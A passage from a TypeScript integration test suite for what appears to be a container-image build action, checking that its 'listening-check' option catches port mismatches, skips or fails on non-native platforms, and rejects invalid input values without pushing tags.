    const p = await program('flagport');
    const r = await act(
      { image: `${infra.REGISTRY}/acme/listen-off`, artifacts: p.artifacts, 'listening-check': 'false' },
      {},
      p.dir,
    );
    expect(r.errors).toBe('');
    expect(r.outputs['listening-port']).toBe('');
    expect(JSON.parse(r.outputs.metadata!).listening.status).toBe('off');
    expect(await tagsOf('acme/listen-off')).toBe(200);
  });

  test('dockerfile (buildah): a program reading LISTEN_PORT fails before the push; no tag in the registry', async () => {
    const p = await program('envport');
    const r = await act(
      {
        mode: 'dockerfile',
        image: `${infra.REGISTRY}/acme/listen-envport`,
        'build-args': `GO_IMAGE=${base.BASE_GOLANG}`,
        platforms: `linux/${native}`,
      },
      {},
      p.dir,
    );
    expect(r.exitCode).toBe(1);
    expect(r.stdout).toContain('builder: buildah');
    expect(r.errors).toContain('The image declares port 8080 (ENV PORT, EXPOSE 8080/tcp, input port)');
    expect(r.errors).toContain('but its process listens on 3000');
    expect(await tagsOf('acme/listen-envport')).toBe(404);
  });

  test('no native platform: auto skips with a notice naming why; true fails with a clear error, nothing pushed', async () => {
    const auto = await act({
      image: `${infra.REGISTRY}/acme/listen-foreign`,
      artifacts,
      platforms: `linux/${foreign}`,
    });
    expect(auto.errors).toBe('');
    expect(auto.outputs['listening-port']).toBe('');
    const notices = auto.annotations.filter((a) => a.level === 'notice').map((a) => a.message);
    expect(notices.join('\n')).toContain(
      `Listening check skipped: the image has no linux/${native} platform (it has linux/${foreign})`,
    );

    const strict = await act({
      image: `${infra.REGISTRY}/acme/listen-strict`,
      artifacts,
      platforms: `linux/${foreign}`,
      'listening-check': 'true',
    });
    expect(strict.exitCode).toBe(1);
    expect(strict.errors).toContain(
      `Input 'listening-check': is true, but the listening check cannot run: the image has no linux/${native} platform`,
    );
    expect(await tagsOf('acme/listen-strict')).toBe(404);
  });

  test('listening-check: an unknown value is refused naming the input', async () => {
    const r = await act({
      image: `${infra.REGISTRY}/acme/listen-bad`,
      artifacts,
      'listening-check': 'maybe',
    });
    expect(r.exitCode).toBe(1);
    expect(r.errors).toMatch(/listening-check/);
    expect(r.errors).toMatch(/auto, true, false|auto\|true\|false|auto, true or false/);
  });
});
